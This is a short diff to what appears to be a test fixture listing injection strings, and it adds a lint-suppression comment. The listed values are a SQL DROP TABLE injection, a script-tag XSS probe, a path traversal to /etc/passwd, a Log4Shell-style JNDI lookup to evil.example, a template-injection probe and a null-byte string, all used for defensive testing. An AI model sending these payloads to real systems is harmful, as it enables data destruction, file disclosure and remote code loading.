@@ -39,6 +39,7 @@ const INJECTIONS = [
   "Robert'); DROP TABLE streams;--",
   '<script>alert(1)</script>',
   '../../../etc/passwd',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style payload, literally.
   '${jndi:ldap://evil.example/a}',
   '{{7*7}}',
   'a\u0000b',
